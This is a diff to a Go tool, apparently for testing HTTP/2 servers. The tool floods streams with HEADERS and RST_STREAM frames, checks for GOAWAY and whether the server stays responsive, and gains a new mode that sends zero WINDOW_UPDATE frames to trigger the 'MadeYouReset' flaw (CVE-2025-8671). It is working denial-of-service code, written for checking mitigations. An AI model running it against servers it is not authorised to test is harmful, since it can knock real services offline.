@@ -3,7 +3,10 @@
 // HEADERS and RST_STREAM for up to --streams streams, within --duration,
 // and reports as one JSON line how many it sent, whether the server sent
 // GOAWAY (and its code) and closed the connection; then one normal GET on
-// a new connection, and its status.
+// a new connection, and its status. --mode window-update-0 sends a
+// WINDOW_UPDATE of 0 on each stream instead of RST_STREAM, which the
+// server must answer by resetting the stream itself ("MadeYouReset",
+// CVE-2025-8671).
 package main
 
 import (
@@ -25,7 +28,7 @@ import (
 
 // Report is what the command prints.
 type Report struct {
-	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM)
+	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM or WINDOW_UPDATE)
 	GoAway     string `json:"goaway"`       // the GOAWAY's error code, "" when none came
 	Closed     bool   `json:"closed"`       // the server closed the connection
 	After      int    `json:"after_status"` // status of the normal GET on a new connection (0: failed)
@@ -37,8 +40,13 @@ func main() {
 	streams := flag.Int("streams", 5000, "streams to open and reset (upper bound)")
 	duration := flag.Duration("duration", 20*time.Second, "send for at most this long")
 	path := flag.String("path", "/", "request path")
+	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL) or window-update-0")
 	flag.Parse()
-	rep, err := run(*addr, *path, *streams, *duration)
+	if *mode != "rst" && *mode != "window-update-0" {
+		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst or window-update-0")
+		os.Exit(2)
+	}
+	rep, err := run(*addr, *path, *mode, *streams, *duration)
 	if err != nil {
 		fmt.Fprintln(os.Stderr, "h2rapid:", err)
 		os.Exit(1)
@@ -46,7 +54,7 @@ func main() {
 	_ = json.NewEncoder(os.Stdout).Encode(rep)
 }
 
-func run(addr, path string, streams int, duration time.Duration) (Report, error) {
+func run(addr, path, mode string, streams int, duration time.Duration) (Report, error) {
 	var rep Report
 	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
 	if err != nil {
@@ -96,7 +104,13 @@ func run(addr, path string, streams int, duration time.Duration) (Report, error)
 		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: buf, EndStream: true, EndHeaders: true}); err != nil {
 			break
 		}
-		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+		var err error
+		if mode == "window-update-0" {
+			err = fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
+		} else {
+			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		}
+		if err != nil {
 			break
 		}
 		rep.Sent++
